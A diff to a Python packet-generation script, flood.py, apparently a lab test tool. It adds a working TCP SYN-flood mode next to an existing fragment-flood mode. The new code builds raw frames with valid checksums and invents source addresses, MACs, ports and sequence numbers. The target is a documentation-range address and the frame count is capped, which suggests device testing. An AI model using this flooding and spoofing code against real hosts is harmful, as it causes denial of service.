@@ -19,6 +19,10 @@ usage:
   flood.py frag-flood IFACE COUNT [--sources N] [--size B] [--seconds S]
                                                   first fragments (MF=1,
                                                   offset 0) that never complete
+  flood.py syn-flood  IFACE COUNT [--port P] [--seconds S]
+                                                  TCP SYNs to 192.0.2.2:P (80)
+                                                  from made-up hosts, MACs,
+                                                  ports and ISNs, with an MSS
 Prints "sending N frames" when it starts, then what it sent and the time
 it took."""
 import os
@@ -76,6 +80,18 @@ def first_fragment(eth_src, src, ident, size):
                       src, ip4(TARGET_IP))
     hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
     return TARGET_MAC + eth_src + struct.pack("!H", ETH_P_IP) + hdr + payload
+
+
+def syn(eth_src, src, sport, isn, dport):
+    """A SYN with an MSS option (1460), checksummed over the pseudo-header."""
+    dst = ip4(TARGET_IP)
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, 6 << 4, 0x02, 65535, 0, 0)
+    tcp += struct.pack("!BBH", 2, 4, 1460)
+    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), isn & 0xFFFF, 0, 64, 6, 0, src, dst)
+    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
+    return TARGET_MAC + eth_src + struct.pack("!H", ETH_P_IP) + hdr + tcp
 
 
 def send_all(iface, frames, seconds):
@@ -144,6 +160,16 @@ def main():
         base = struct.unpack("!H", os.urandom(2))[0]
         frames = [first_fragment(src_mac, made_up_host(i % sources), base + i, size)
                   for i in range(count)]
+    elif cmd == "syn-flood":
+        port = opt(rest, "--port", 80, int)
+        count = int(rest[0])
+        if not 0 < count <= MAX_FRAMES or not 0 < port < 65536:
+            die("COUNT 1..%d, --port 1..65535" % MAX_FRAMES)
+        rnd = os.urandom(8 * count)
+        frames = []
+        for i in range(count):
+            sport, isn, _ = struct.unpack_from("!HIH", rnd, 8 * i)
+            frames.append(syn(made_up_mac(i), made_up_host(i), 1024 + sport % 60000, isn, port))
     else:
         die("unknown command " + cmd)
     sent, took = send_all(iface, frames, seconds)
